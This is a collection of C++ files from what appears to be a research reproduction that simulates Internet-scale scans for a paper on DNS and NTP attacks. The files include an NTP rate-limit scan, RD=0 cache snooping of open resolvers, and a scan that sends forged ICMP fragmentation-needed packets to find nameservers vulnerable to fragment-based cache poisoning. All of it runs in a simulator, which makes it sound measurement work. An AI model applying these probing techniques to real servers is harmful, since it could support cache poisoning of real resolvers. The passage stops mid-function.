// The RD=0 technique [Wills et al. 2003]: a query with Recursion Desired
// cleared is answered only from cache, so the presence of an answer
// reveals whether the record is cached — without planting anything.
// Verification protocol per resolver (as in the paper): (1) an RD=0 query
// for a known-noncached name must return no answer; (2) after an RD=1
// query primes a test name, the RD=0 re-query must return it. Resolvers
// failing either step are excluded from the statistics.
#pragma once

#include "common/histogram.h"
#include "measure/populations.h"

namespace dnstime::measure {

struct CacheProbeConfig {
  /// Scaled sample of the paper's 1.58M responding open resolvers.
  std::size_t resolvers = 4000;
  OpenResolverParams population;
  u64 seed = 0xCAC4E;
};

struct CacheProbeRow {
  std::string record;
  std::size_t cached = 0;
  std::size_t not_cached = 0;
  [[nodiscard]] double cached_fraction() const {
    auto total = cached + not_cached;
    return total == 0 ? 0.0
                      : static_cast<double>(cached) /
                            static_cast<double>(total);
  }
};

struct CacheProbeResult {
  std::size_t probed = 0;
  std::size_t verified = 0;  ///< passed the two-step RD verification
  std::vector<CacheProbeRow> rows;  ///< Table IV rows
  Histogram ttl_histogram{0, 160, 32};  ///< Fig. 6: remaining TTLs of A
};

[[nodiscard]] CacheProbeResult probe_open_resolvers(
    const CacheProbeConfig& config);

}  // namespace dnstime::measure
