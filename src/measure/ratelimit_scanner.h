// §VII-A scan: rate limiting among pool.ntp.org NTP servers.
//
// Methodology as in the paper: query each server 64 times, once per
// second; classify as KoD-sending if a Kiss-o'-Death arrives, and as
// rate-limiting if the first half of the test yielded more than 8
// additional responses compared to the second half (absorbing packet loss
// and limiters that leak a trickle of answers). Also counts servers that
// answer the mode-6 configuration interface (§IV-B2c).
#pragma once

#include "measure/populations.h"

namespace dnstime::measure {

struct RateLimitScanConfig {
  std::size_t servers = 2432;  ///< the paper's pool snapshot size
  PoolServerParams population;
  int queries_per_server = 64;
  sim::Duration query_spacing = sim::Duration::seconds(1);
  int halves_threshold = 8;
  u64 seed = 0xA11CE;
};

struct RateLimitScanResult {
  std::size_t servers = 0;
  std::size_t kod_servers = 0;
  std::size_t rate_limiting_servers = 0;
  std::size_t open_config_servers = 0;
  /// Ground truth from the planted population, for validation.
  std::size_t truth_rate_limiting = 0;
  std::size_t truth_kod = 0;
  std::size_t truth_open_config = 0;

  [[nodiscard]] double kod_fraction() const {
    return static_cast<double>(kod_servers) / static_cast<double>(servers);
  }
  [[nodiscard]] double rate_limit_fraction() const {
    return static_cast<double>(rate_limiting_servers) /
           static_cast<double>(servers);
  }
  [[nodiscard]] double open_config_fraction() const {
    return static_cast<double>(open_config_servers) /
           static_cast<double>(servers);
  }
};

[[nodiscard]] RateLimitScanResult scan_pool_rate_limiting(
    const RateLimitScanConfig& config);

}  // namespace dnstime::measure
