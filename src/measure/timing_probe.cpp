#include "measure/timing_probe.h"

#include <algorithm>

#include "dns/nameserver.h"
#include "dns/pool_zone.h"
#include "dns/resolver.h"

namespace dnstime::measure {

double TimingProbeResult::best_threshold_accuracy() const {
  if (deltas_cached.empty() || deltas_noncached.empty()) return 1.0;
  // Sweep candidate thresholds over the union of observed deltas.
  std::vector<double> candidates = deltas_cached;
  candidates.insert(candidates.end(), deltas_noncached.begin(),
                    deltas_noncached.end());
  std::sort(candidates.begin(), candidates.end());
  double best = 0.0;
  for (double t : candidates) {
    std::size_t correct = 0;
    for (double d : deltas_cached) {
      if (d < t) correct++;
    }
    for (double d : deltas_noncached) {
      if (d >= t) correct++;
    }
    best = std::max(best, static_cast<double>(correct) /
                              (deltas_cached.size() + deltas_noncached.size()));
  }
  return best;
}

TimingProbeResult run_timing_probe(const TimingProbeConfig& config) {
  Rng rng(config.seed);
  sim::EventLoop loop;
  sim::Network net(loop, rng.fork());

  // Upstream pool nameserver.
  net::NetStack ns_stack(net, Ipv4Addr{198, 51, 100, 53}, net::StackConfig{},
                         rng.fork());
  dns::Nameserver nameserver(ns_stack);
  dns::PoolZone::Config pz;
  pz.nameservers = {
      {dns::DnsName::from_string("ns1.ntp.org"), ns_stack.addr()}};
  std::vector<Ipv4Addr> pool_addrs;
  for (u32 i = 1; i <= 8; ++i) pool_addrs.push_back(Ipv4Addr{0x0A0A0000 + i});
  auto zone = std::make_shared<dns::PoolZone>(
      dns::DnsName::from_string("pool.ntp.org"), pool_addrs, pz);
  nameserver.add_zone(zone);

  TimingProbeResult result;
  result.probed = config.resolvers;

  net::NetStack prober(net, Ipv4Addr{203, 0, 113, 44}, net::StackConfig{},
                       rng.fork());

  struct Target {
    std::unique_ptr<net::NetStack> stack;
    std::unique_ptr<dns::Resolver> resolver;
    bool cached = false;
    std::vector<double> latencies_ms;
  };
  std::vector<std::unique_ptr<Target>> targets;

  const auto pool_ns_q = dns::DnsName::from_string("pool.ntp.org");
  for (std::size_t i = 0; i < config.resolvers; ++i) {
    auto t = std::make_unique<Target>();
    t->cached = rng.chance(config.cached_fraction);
    if (t->cached) result.cached_truth++;
    Ipv4Addr addr{static_cast<u32>(0x38000000 + i)};
    t->stack = std::make_unique<net::NetStack>(net, addr, net::StackConfig{},
                                               rng.fork());
    t->resolver = std::make_unique<dns::Resolver>(*t->stack,
                                                  dns::Resolver::Config{});
    t->resolver->add_zone_hint(dns::DnsName::from_string("ntp.org"),
                               {ns_stack.addr()});
    if (t->cached) {
      t->resolver->cache().insert(
          pool_ns_q, dns::RrType::kNs,
          {dns::make_ns(pool_ns_q, dns::DnsName::from_string("ns1.ntp.org"),
                        static_cast<u32>(rng.uniform(600, 86400)))},
          loop.now());
    }

    // Heterogeneous paths: the uncontrollable variables of the study.
    // WAN jitter on the prober<->resolver leg can exceed the extra hop a
    // cache miss costs when the nameserver is close (anycast, or the
    // parent zone already cached) — exactly what ruins the threshold.
    sim::LinkProfile to_resolver{
        .latency = sim::Duration::millis(
            static_cast<i64>(rng.uniform(5, 120))),
        .jitter = sim::Duration::millis(static_cast<i64>(rng.uniform(2, 70)))};
    net.set_profile(prober.addr(), addr, to_resolver);
    net.set_profile(addr, prober.addr(), to_resolver);
    sim::LinkProfile to_ns{
        .latency = sim::Duration::millis(
            static_cast<i64>(rng.uniform(2, 120))),
        .jitter = sim::Duration::millis(static_cast<i64>(rng.uniform(1, 10)))};
    net.set_profile(addr, ns_stack.addr(), to_ns);
    net.set_profile(ns_stack.addr(), addr, to_ns);
    targets.push_back(std::move(t));
  }

  // Probe sequence per resolver: 1 + followup queries, 2 s apart, all
  // RD=1 for the NS record; record per-query latency.
  for (std::size_t i = 0; i < targets.size(); ++i) {
    Target* t = targets[i].get();
    for (int q = 0; q <= config.followup_queries; ++q) {
      loop.schedule_after(
          sim::Duration::seconds(2 * q), [t, &prober, &loop, pool_ns_q] {
            u16 port = prober.ephemeral_port();
            sim::Time sent = loop.now();
            auto done = std::make_shared<bool>(false);
            prober.bind_udp(port, [t, &prober, port, sent, &loop, done](
                                      const net::UdpEndpoint&, u16,
                                      BufView) {
              if (*done) return;
              *done = true;
              prober.unbind_udp(port);
              t->latencies_ms.push_back((loop.now() - sent).to_millis());
            });
            dns::DnsMessage query;
            query.id = prober.rng().next_u16();
            query.rd = true;
            query.questions = {
                dns::DnsQuestion{pool_ns_q, dns::RrType::kNs}};
            prober.send_udp(t->stack->addr(), port, kDnsPort,
                            encode_dns_buf(query));
          });
    }
  }
  loop.run_for(sim::Duration::seconds(
      static_cast<i64>(2 * (config.followup_queries + 3))));

  for (const auto& t : targets) {
    if (t->latencies_ms.size() < 2) continue;
    double t_first = t->latencies_ms.front();
    double sum = 0.0;
    for (std::size_t k = 1; k < t->latencies_ms.size(); ++k) {
      sum += t->latencies_ms[k];
    }
    double t_avg = sum / static_cast<double>(t->latencies_ms.size() - 1);
    double delta = t_first - t_avg;
    result.deltas.add(delta);
    (t->cached ? result.deltas_cached : result.deltas_noncached)
        .push_back(delta);
  }
  return result;
}

}  // namespace dnstime::measure
