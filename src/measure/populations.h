// Synthetic populations standing in for the paper's Internet-scale
// measurement targets (substitution documented in DESIGN.md §1).
//
// Each sampler draws per-host behaviour profiles from the marginal
// distributions the paper *reports*; the measurement tools then run the
// paper's *methodology* against live simulated hosts built from those
// profiles. What is being reproduced is the measurement pipeline — the
// scan logic, classification heuristics and analysis — not the Internet.
#pragma once

#include <string>
#include <vector>

#include "common/rng.h"
#include "net/netstack.h"

namespace dnstime::measure {

// ---- pool NTP servers (§VII-A scan) -----------------------------------

struct PoolServerParams {
  double rate_limit_fraction = 0.38;  ///< §VII-A: 38% rate-limit
  double kod_fraction_of_limiters = 0.868;  ///< 33% KoD / 38% limiters
  double open_config_fraction = 0.053;      ///< §IV-B2c: 5.3%
  /// Some rate limiters still answer a trickle while limiting (§VII-A
  /// notes this as a false-positive source the halves heuristic absorbs).
  double leak_probability = 0.05;
};

struct PoolServerProfile {
  bool rate_limits = false;
  bool sends_kod = false;
  bool open_config = false;
};

[[nodiscard]] PoolServerProfile sample_pool_server(Rng& rng,
                                                   const PoolServerParams& p);

// ---- nameservers of popular domains (§VII-B, Fig. 5) -------------------

struct DomainParams {
  double dnssec_fraction = 0.077;   ///< signed domains (~1-10%)
  /// Emits fragments on ICMP at all; calibrated so that fragmenting AND
  /// unsigned ~= the paper's 7.66% of all domains.
  double fragments_fraction = 0.083;
  // Of the fragmenting nameservers, the minimum fragment size they will
  // go down to (Fig. 5 knee points).
  double min548_fraction = 0.832;  ///< fragment down to 548
  double min292_fraction = 0.0705; ///< of those, even down to 292
  /// Exact-fraction (index-based) assignment instead of sampling; used
  /// for small populations like the 30 pool nameservers.
  bool deterministic = false;
};

struct NameserverProfile {
  bool dnssec_signed = false;
  bool honors_pmtud = false;
  u16 min_fragment_size = 1500;  ///< smallest fragment it will emit
};

[[nodiscard]] NameserverProfile sample_nameserver(Rng& rng,
                                                  const DomainParams& p);

// ---- open resolvers (§VIII-A, Table IV, Fig. 6) ------------------------

struct OpenResolverParams {
  /// Fraction with each pool record cached (Table IV marginals).
  double cached_ns = 0.5828;
  double cached_a = 0.6941;
  double cached_sub_a[4] = {0.6392, 0.6128, 0.6155, 0.5858};
  /// Fraction whose RD=0 handling is broken (probed but unverifiable;
  /// the paper verified the technique on 646,212 of 1,583,045 responders).
  double ignores_rd_bit = 0.10;
  double accepts_fragments = 0.31;  ///< §VIII-A2: 31% overall
};

struct OpenResolverProfile {
  bool cached_ns = false;
  bool cached_a = false;
  bool cached_sub_a[4] = {false, false, false, false};
  u32 a_ttl_remaining = 0;  ///< uniform in [0,150) when cached (Fig. 6)
  bool ignores_rd_bit = false;
  bool accepts_fragments = false;
};

[[nodiscard]] OpenResolverProfile sample_open_resolver(
    Rng& rng, const OpenResolverParams& p);

// ---- ad-network web clients (§VIII-B, Table V) --------------------------

enum class Region { kAsia, kAfrica, kEurope, kNorthAmerica, kLatinAmerica };
enum class Device { kPc, kMobile };

[[nodiscard]] const char* region_name(Region r);

struct AdClientParams {
  /// Client counts per region as in Table V (dataset 1 + the NA dataset 2).
  std::vector<std::pair<Region, std::size_t>> region_counts = {
      {Region::kAsia, 3169},
      {Region::kAfrica, 303},
      {Region::kEurope, 1390},
      {Region::kNorthAmerica, 2314},
      {Region::kLatinAmerica, 838},
  };
  double mobile_fraction = 0.53;  ///< 3108 of 5847
  double google_resolver_fraction = 791.0 / 5847.0;
  /// Monotone fragment-acceptance classes for non-Google resolvers,
  /// calibrated to Table V's tiny/medium/big marginals (see
  /// EXPERIMENTS.md for the calibration note).
  /// Per-region tiny(68B) acceptance among non-Google resolvers,
  /// back-calibrated from Table V's regional tiny columns.
  double accept_tiny_by_region[5] = {0.67, 0.85, 0.84, 0.68, 0.79};
  double accept_small_extra = 0.05;   ///< accepts >=296 but not 68
  double accept_medium_extra = 0.08;  ///< accepts >=580
  double accept_big_extra = 0.09;     ///< accepts >=1280
  /// DNSSEC validation rate per region (§VIII-B2: 19.14%..28.94%).
  double dnssec_validation[5] = {0.20, 0.25, 0.29, 0.19, 0.22};
  /// Results filtered out: page closed under 30 s / baseline failures.
  double invalid_result_fraction = 0.06;
};

struct AdClientProfile {
  Region region = Region::kAsia;
  Device device = Device::kPc;
  bool uses_google_resolver = false;
  /// Smallest first-fragment size the client's resolver accepts;
  /// 0 => accepts everything, 0xFFFF => rejects all fragments.
  u16 resolver_min_fragment = 0;
  bool resolver_validates_dnssec = false;
  bool result_valid = true;  ///< survives the paper's filtering rules
};

[[nodiscard]] std::vector<AdClientProfile> sample_ad_clients(
    Rng& rng, const AdClientParams& p);

// ---- shared-resolver discovery (§VIII-B3) -------------------------------

struct SharedResolverParams {
  std::size_t web_resolvers = 2000;  ///< scaled from the paper's 18,668
  double smtp_shared_fraction = 0.113;
  double open_fraction = 0.023;
  double open_and_smtp_fraction = 0.002;
};

struct WebResolverProfile {
  bool has_smtp_neighbor = false;
  bool is_open = false;
};

[[nodiscard]] std::vector<WebResolverProfile> sample_web_resolvers(
    Rng& rng, const SharedResolverParams& p);

}  // namespace dnstime::measure
