#include "measure/frag_scanner.h"

#include "attack/icmp_mtu_attack.h"
#include "dns/nameserver.h"

namespace dnstime::measure {

namespace {

/// One scan target: a nameserver whose stack honours (or ignores) PMTUD
/// with a given clamp, serving a padded zone so responses exceed the MTU.
struct Target {
  std::unique_ptr<net::NetStack> stack;
  std::unique_ptr<dns::Nameserver> ns;
  NameserverProfile profile;
  dns::DnsName domain;
  u16 min_seen_fragment = 0xFFFF;
  bool saw_fragments = false;
  bool saw_rrsig = false;
  bool answered = false;
};

std::unique_ptr<Target> make_target(sim::Network& net, Rng& rng,
                                    const NameserverProfile& profile,
                                    std::size_t index, u32 addr_base) {
  auto t = std::make_unique<Target>();
  t->profile = profile;
  net::StackConfig sc;
  sc.honor_icmp_frag_needed = profile.honors_pmtud;
  sc.min_pmtu = profile.min_fragment_size;
  t->stack = std::make_unique<net::NetStack>(
      net, Ipv4Addr{static_cast<u32>(addr_base + index)}, sc, rng.fork());
  t->ns = std::make_unique<dns::Nameserver>(*t->stack);
  t->domain =
      dns::DnsName::from_string("d" + std::to_string(index) + ".example");
  auto zone = std::make_shared<dns::StaticZone>(
      t->domain, profile.dnssec_signed, /*secret=*/0x5ec + index);
  zone->add(dns::make_a(t->domain, Ipv4Addr{192, 0, 2, 1}, 300));
  // Padding sized so the ~1.3 kB response fits an un-tampered 1500-byte
  // path (no natural fragmentation) but exceeds every PMTUD clamp the
  // scan can induce (1276 and below).
  zone->add(dns::make_txt(t->domain, std::string(1260, 'x'), 300));
  t->ns->add_zone(std::move(zone));
  return t;
}

NameserverProfile deterministic_nameserver(std::size_t i, std::size_t n,
                                            const DomainParams& p) {
  // Exact-fraction assignment for small populations (e.g. the 30 pool
  // nameservers), where sampling noise would swamp the headline count.
  NameserverProfile profile;
  profile.dnssec_signed =
      i >= static_cast<std::size_t>((1.0 - p.dnssec_fraction) * n);
  profile.honors_pmtud =
      i < static_cast<std::size_t>(p.fragments_fraction * n + 0.5);
  if (!profile.honors_pmtud) {
    profile.min_fragment_size = net::kEthernetMtu;
  } else if (i % 12 == 0) {
    profile.min_fragment_size = 292;
  } else {
    profile.min_fragment_size = 548;
  }
  return profile;
}

}  // namespace

FragScanResult scan_domain_fragmentation(const FragScanConfig& config) {
  Rng rng(config.seed);
  sim::EventLoop loop;
  sim::Network net(loop, rng.fork());
  net.set_default_profile(
      sim::LinkProfile{.latency = sim::Duration::millis(5)});

  FragScanResult result;
  result.domains = config.domains;

  std::vector<std::unique_ptr<Target>> targets;
  targets.reserve(config.domains);
  for (std::size_t i = 0; i < config.domains; ++i) {
    NameserverProfile profile =
        config.population.deterministic
            ? deterministic_nameserver(i, config.domains, config.population)
            : sample_nameserver(rng, config.population);
    targets.push_back(make_target(net, rng, profile, i, 0x10000000));
  }

  net::NetStack scanner(net, Ipv4Addr{203, 0, 113, 99}, net::StackConfig{},
                        rng.fork());
  // Observe every fragment the scan receives and attribute by source.
  std::unordered_map<Ipv4Addr, Target*> by_addr;
  for (auto& t : targets) by_addr[t->stack->addr()] = t.get();
  scanner.add_packet_tap([&](const net::Ipv4Packet& pkt) {
    auto it = by_addr.find(pkt.src);
    if (it == by_addr.end()) return;
    if (!pkt.is_fragment()) return;
    it->second->saw_fragments = true;
    // Only non-final fragments reveal the MTU the server fragments to;
    // the trailing fragment is just the remainder.
    if (pkt.more_fragments) {
      it->second->min_seen_fragment =
          std::min(it->second->min_seen_fragment,
                   static_cast<u16>(pkt.total_length()));
    }
  });

  // Phase 1: forged ICMP demanding MTU 68 towards every nameserver.
  for (auto& t : targets) {
    attack::force_path_mtu(scanner, t->stack->addr(), scanner.addr(),
                           net::kMinimumMtu);
  }
  loop.run_for(sim::Duration::seconds(1));

  // Phase 2: query each domain; responses reveal fragment size + RRSIG.
  for (std::size_t i = 0; i < targets.size(); ++i) {
    Target* t = targets[i].get();
    u16 port = static_cast<u16>(1024 + (i % 60000));
    scanner.bind_udp(port, [t](const net::UdpEndpoint&, u16,
                               BufView payload) {
      try {
        dns::DnsMessage resp = dns::decode_dns(payload);
        t->answered = true;
        for (const auto& rr : resp.answers) {
          if (rr.type == dns::RrType::kRrsig) t->saw_rrsig = true;
        }
      } catch (const DecodeError&) {
      }
    });
    dns::DnsMessage query;
    query.id = static_cast<u16>(i);
    // TXT probe: elicits the domain's large response (the paper inflates
    // response sizes via long subdomains / record-rich names).
    query.questions = {dns::DnsQuestion{t->domain, dns::RrType::kTxt}};
    scanner.send_udp(t->stack->addr(), port, kDnsPort, encode_dns_buf(query));
  }
  loop.run_for(sim::Duration::seconds(3));

  for (const auto& t : targets) {
    if (t->saw_rrsig) result.dnssec_signed++;
    if (t->saw_fragments) result.fragmenting++;
    if (t->saw_fragments && !t->saw_rrsig) {
      result.vulnerable++;
      result.min_fragment_cdf.add(t->min_seen_fragment);
    }
  }
  return result;
}

PoolNsScanResult scan_pool_nameservers(std::size_t count,
                                       double frag_fraction, u64 seed) {
  // The 30 pool nameservers scanned directly, with the measured share
  // honouring PMTUD down to below 548 bytes and none serving DNSSEC.
  DomainParams params;
  params.dnssec_fraction = 0.0;
  params.fragments_fraction = frag_fraction;
  params.min548_fraction = 1.0;
  params.min292_fraction = 0.1;
  params.deterministic = true;
  FragScanConfig cfg;
  cfg.domains = count;
  cfg.population = params;
  cfg.seed = seed;
  FragScanResult scan = scan_domain_fragmentation(cfg);

  PoolNsScanResult result;
  result.nameservers = count;
  result.dnssec = scan.dnssec_signed;
  result.fragment_below_548 = static_cast<std::size_t>(
      scan.min_fragment_cdf.fraction_leq(548.0) *
      static_cast<double>(scan.min_fragment_cdf.size()));
  return result;
}

}  // namespace dnstime::measure
