#include "measure/ratelimit_scanner.h"

#include "ntp/server.h"

namespace dnstime::measure {

RateLimitScanResult scan_pool_rate_limiting(
    const RateLimitScanConfig& config) {
  Rng rng(config.seed);
  sim::EventLoop loop;
  sim::Network net(loop, rng.fork());
  net.set_default_profile(
      sim::LinkProfile{.latency = sim::Duration::millis(15)});

  struct Target {
    std::unique_ptr<net::NetStack> stack;
    std::unique_ptr<ntp::SystemClock> clock;
    std::unique_ptr<ntp::NtpServer> server;
    PoolServerProfile profile;
    int responses_first_half = 0;
    int responses_second_half = 0;
    bool kod_seen = false;
    bool config_answered = false;
  };

  RateLimitScanResult result;
  result.servers = config.servers;

  std::vector<std::unique_ptr<Target>> targets;
  for (std::size_t i = 0; i < config.servers; ++i) {
    auto t = std::make_unique<Target>();
    t->profile = sample_pool_server(rng, config.population);
    Ipv4Addr addr{static_cast<u32>(0x0B000000 + i + 1)};
    t->stack = std::make_unique<net::NetStack>(net, addr, net::StackConfig{},
                                               rng.fork());
    t->clock = std::make_unique<ntp::SystemClock>(0.0);
    ntp::ServerConfig sc;
    sc.rate_limit.enabled = t->profile.rate_limits;
    sc.rate_limit.send_kod = t->profile.sends_kod;
    sc.rate_limit.leak_probability = config.population.leak_probability;
    sc.open_config_interface = t->profile.open_config;
    t->server = std::make_unique<ntp::NtpServer>(*t->stack, *t->clock, sc);
    if (t->profile.rate_limits) result.truth_rate_limiting++;
    if (t->profile.sends_kod) result.truth_kod++;
    if (t->profile.open_config) result.truth_open_config++;
    targets.push_back(std::move(t));
  }

  net::NetStack scanner(net, Ipv4Addr{203, 0, 113, 77}, net::StackConfig{},
                        rng.fork());

  // One long-lived port per target so responses attribute cleanly.
  const int half = config.queries_per_server / 2;
  for (std::size_t i = 0; i < targets.size(); ++i) {
    Target* t = targets[i].get();
    u16 port = static_cast<u16>(1024 + i);
    scanner.bind_udp(port, [t, half, &loop, start = loop.now(),
                            spacing = config.query_spacing](
                               const net::UdpEndpoint&, u16,
                               BufView payload) {
      ntp::NtpPacket resp;
      try {
        resp = ntp::decode_ntp(payload);
      } catch (const DecodeError&) {
        return;
      }
      if (resp.is_rate_kod()) {
        t->kod_seen = true;
        return;
      }
      i64 query_index = (loop.now() - start).ns() / spacing.ns();
      if (query_index < half) {
        t->responses_first_half++;
      } else {
        t->responses_second_half++;
      }
    });
    for (int q = 0; q < config.queries_per_server; ++q) {
      loop.schedule_at(
          loop.now() + config.query_spacing * q, [t, port, &scanner] {
            ntp::NtpPacket query;
            query.mode = ntp::Mode::kClient;
            query.tx_time = 1.0;
            scanner.send_udp(t->stack->addr(), port, kNtpPort,
                             encode_ntp_buf(query));
          });
    }
  }
  loop.run_for(config.query_spacing * (config.queries_per_server + 5));

  // Configuration-interface probe (one query per server).
  for (std::size_t i = 0; i < targets.size(); ++i) {
    Target* t = targets[i].get();
    u16 port = static_cast<u16>(40000 + (i % 20000));
    scanner.bind_udp(port, [t](const net::UdpEndpoint&, u16,
                               BufView payload) {
      if (ntp::decode_config_response(payload)) t->config_answered = true;
    });
    scanner.send_udp(t->stack->addr(), port, kNtpPort,
                     ntp::encode_config_request());
  }
  loop.run_for(sim::Duration::seconds(5));

  for (const auto& t : targets) {
    if (t->kod_seen) result.kod_servers++;
    if (t->responses_first_half >
        t->responses_second_half + config.halves_threshold) {
      result.rate_limiting_servers++;
    }
    if (t->config_answered) result.open_config_servers++;
  }
  return result;
}

}  // namespace dnstime::measure
