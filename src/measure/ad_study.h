// §VIII-B / Table V: the ad-network client study.
//
// Each simulated web client loads seven "images" whose hostnames resolve
// through the client's own resolver against our study nameservers:
//   T.baseline  — normal response;
//   T.ftiny     — always fragmented to 68-byte fragments;
//   T.fsmall    — 296;  T.fmedium — 580;  T.fbig — 1280;
//   sigfail     — incorrectly DNSSEC-signed;  sigright — correctly signed.
// A test "image" loads iff the resolution returns answers. Result
// filtering follows the paper: discard clients that failed baseline or
// sigright, or closed the page early.
#pragma once

#include "measure/populations.h"

namespace dnstime::measure {

struct AdStudyConfig {
  AdClientParams population;
  u64 seed = 0xAD5;
};

struct AdStudyCell {
  std::size_t accepts_tiny = 0;
  std::size_t accepts_any = 0;
  std::size_t total = 0;
  [[nodiscard]] double tiny_fraction() const {
    return total == 0 ? 0 : static_cast<double>(accepts_tiny) / total;
  }
  [[nodiscard]] double any_fraction() const {
    return total == 0 ? 0 : static_cast<double>(accepts_any) / total;
  }
};

struct AdStudyResult {
  std::size_t clients_total = 0;
  std::size_t clients_valid = 0;
  AdStudyCell by_region[5];
  AdStudyCell all;
  AdStudyCell without_google;
  AdStudyCell pc;
  AdStudyCell mobile;
  /// Fragment acceptance by size across all valid clients.
  std::size_t accepts_small = 0, accepts_medium = 0, accepts_big = 0;
  /// DNSSEC validation (sigfail blocked, sigright loaded) per region.
  std::size_t validating[5] = {};
  std::size_t validating_total = 0;

  [[nodiscard]] double dnssec_validation_fraction(int region) const {
    return by_region[region].total == 0
               ? 0
               : static_cast<double>(validating[region]) /
                     by_region[region].total;
  }
};

[[nodiscard]] AdStudyResult run_ad_study(const AdStudyConfig& config);

}  // namespace dnstime::measure
