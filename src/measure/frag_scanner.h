// §VII-B / Fig. 5: PMTUD and fragmentation support of nameservers.
//
// Methodology: for each domain's nameserver, send a forged ICMP
// fragmentation-needed demanding the minimum MTU (68), query the domain,
// and observe the size of the fragments actually emitted — the stack's
// clamp (`min_pmtu`) is what the scan recovers. DNSSEC support is read
// from the presence of RRSIGs in the response.
#pragma once

#include "common/histogram.h"
#include "measure/populations.h"

namespace dnstime::measure {

struct FragScanConfig {
  /// Scaled sample of the paper's 877,071-nameserver population.
  std::size_t domains = 10000;
  DomainParams population;
  u64 seed = 0xF4A6;
};

struct FragScanResult {
  std::size_t domains = 0;
  std::size_t dnssec_signed = 0;
  std::size_t fragmenting = 0;
  /// Fragmenting but unsigned: the Fig. 5 population, "vulnerable to DNS
  /// cache-poisoning attacks via injection of IP fragments" (7.66%).
  std::size_t vulnerable = 0;
  /// Minimum emitted fragment size per vulnerable domain (Fig. 5 CDF).
  EmpiricalCdf min_fragment_cdf;

  [[nodiscard]] double vulnerable_fraction() const {
    return static_cast<double>(vulnerable) / static_cast<double>(domains);
  }
  [[nodiscard]] double fraction_fragmenting_leq(double size) const {
    return min_fragment_cdf.fraction_leq(size);
  }
};

[[nodiscard]] FragScanResult scan_domain_fragmentation(
    const FragScanConfig& config);

/// §VII-B small scan: the pool.ntp.org nameservers themselves (paper: 16
/// of 30 fragment below 548 bytes; none serves DNSSEC).
struct PoolNsScanResult {
  std::size_t nameservers = 0;
  std::size_t fragment_below_548 = 0;
  std::size_t dnssec = 0;
};

[[nodiscard]] PoolNsScanResult scan_pool_nameservers(std::size_t count = 30,
                                                     double frag_fraction =
                                                         16.0 / 30.0,
                                                     u64 seed = 0x30);

}  // namespace dnstime::measure
