#include "measure/cache_probe.h"

#include "dns/nameserver.h"
#include "dns/resolver.h"

namespace dnstime::measure {

namespace {

const char* kProbeNames[6] = {
    "pool.ntp.org",    "pool.ntp.org",    "0.pool.ntp.org",
    "1.pool.ntp.org",  "2.pool.ntp.org",  "3.pool.ntp.org",
};
const dns::RrType kProbeTypes[6] = {
    dns::RrType::kNs, dns::RrType::kA, dns::RrType::kA,
    dns::RrType::kA,  dns::RrType::kA, dns::RrType::kA,
};
const char* kRowLabels[6] = {
    "pool.ntp.org IN NS",   "pool.ntp.org IN A",   "0.pool.ntp.org IN A",
    "1.pool.ntp.org IN A",  "2.pool.ntp.org IN A", "3.pool.ntp.org IN A",
};

struct Target {
  std::unique_ptr<net::NetStack> stack;
  std::unique_ptr<dns::Resolver> resolver;
  OpenResolverProfile profile;
  bool verified = false;
  bool probe_answers[6] = {};
  std::optional<u32> observed_a_ttl;
};

}  // namespace

CacheProbeResult probe_open_resolvers(const CacheProbeConfig& config) {
  Rng rng(config.seed);
  sim::EventLoop loop;
  sim::Network net(loop, rng.fork());
  net.set_default_profile(
      sim::LinkProfile{.latency = sim::Duration::millis(10)});

  // Upstream nameserver for the verification domain.
  net::NetStack ns_stack(net, Ipv4Addr{198, 51, 100, 10}, net::StackConfig{},
                         rng.fork());
  dns::Nameserver verifier_ns(ns_stack);
  auto verify_zone =
      std::make_shared<dns::StaticZone>(dns::DnsName::from_string("verify.example"));
  verify_zone->add(dns::make_a(dns::DnsName::from_string("known.verify.example"),
                               Ipv4Addr{192, 0, 2, 55}, 600));
  verifier_ns.add_zone(std::move(verify_zone));

  CacheProbeResult result;
  result.probed = config.resolvers;
  for (const char* label : kRowLabels) {
    result.rows.push_back(CacheProbeRow{label, 0, 0});
  }

  const auto pool_name = dns::DnsName::from_string("pool.ntp.org");
  std::vector<std::unique_ptr<Target>> targets;
  for (std::size_t i = 0; i < config.resolvers; ++i) {
    auto t = std::make_unique<Target>();
    t->profile = sample_open_resolver(rng, config.population);
    t->stack = std::make_unique<net::NetStack>(
        net, Ipv4Addr{static_cast<u32>(0x14000000 + i)}, net::StackConfig{},
        rng.fork());
    dns::Resolver::Config rc;
    rc.ignore_rd_bit = t->profile.ignores_rd_bit;
    t->resolver = std::make_unique<dns::Resolver>(*t->stack, rc);
    t->resolver->add_zone_hint(dns::DnsName::from_string("verify.example"),
                               {ns_stack.addr()});

    // Seed the cache per the population profile: what NTP clients using
    // this resolver would have left behind.
    auto seed_a = [&](const dns::DnsName& name, u32 ttl) {
      std::vector<dns::ResourceRecord> rrset;
      for (int k = 0; k < 4; ++k) {
        rrset.push_back(dns::make_a(
            name, Ipv4Addr{static_cast<u32>(0x0A0A0000 + k + 1)}, ttl));
      }
      t->resolver->cache().insert(name, dns::RrType::kA, rrset, loop.now());
    };
    if (t->profile.cached_ns) {
      t->resolver->cache().insert(
          pool_name, dns::RrType::kNs,
          {dns::make_ns(pool_name, dns::DnsName::from_string("ns1.ntp.org"),
                        static_cast<u32>(rng.uniform(100, 86400)))},
          loop.now());
    }
    if (t->profile.cached_a) {
      seed_a(pool_name, t->profile.a_ttl_remaining);
    }
    for (int k = 0; k < 4; ++k) {
      if (t->profile.cached_sub_a[k]) {
        seed_a(pool_name.prepend(std::to_string(k)),
               static_cast<u32>(rng.uniform(1, 149)));
      }
    }
    targets.push_back(std::move(t));
  }

  net::NetStack scanner(net, Ipv4Addr{203, 0, 113, 88}, net::StackConfig{},
                        rng.fork());

  // Helper: one query to one resolver; callback with the answer count and
  // first answer TTL.
  auto query = [&](Target* t, const dns::DnsName& name, dns::RrType type,
                   bool rd,
                   std::function<void(std::size_t, std::optional<u32>)> cb) {
    u16 port = scanner.ephemeral_port();
    auto done = std::make_shared<bool>(false);
    scanner.bind_udp(port, [&scanner, port, done, cb](
                               const net::UdpEndpoint&, u16,
                               BufView payload) {
      if (*done) return;
      *done = true;
      scanner.unbind_udp(port);
      try {
        dns::DnsMessage resp = dns::decode_dns(payload);
        std::optional<u32> ttl;
        if (!resp.answers.empty()) ttl = resp.answers.front().ttl;
        cb(resp.answers.size(), ttl);
      } catch (const DecodeError&) {
        cb(0, std::nullopt);
      }
    });
    dns::DnsMessage q;
    q.id = scanner.rng().next_u16();
    q.rd = rd;
    q.questions = {dns::DnsQuestion{name, type}};
    scanner.send_udp(t->stack->addr(), port, kDnsPort, encode_dns_buf(q));
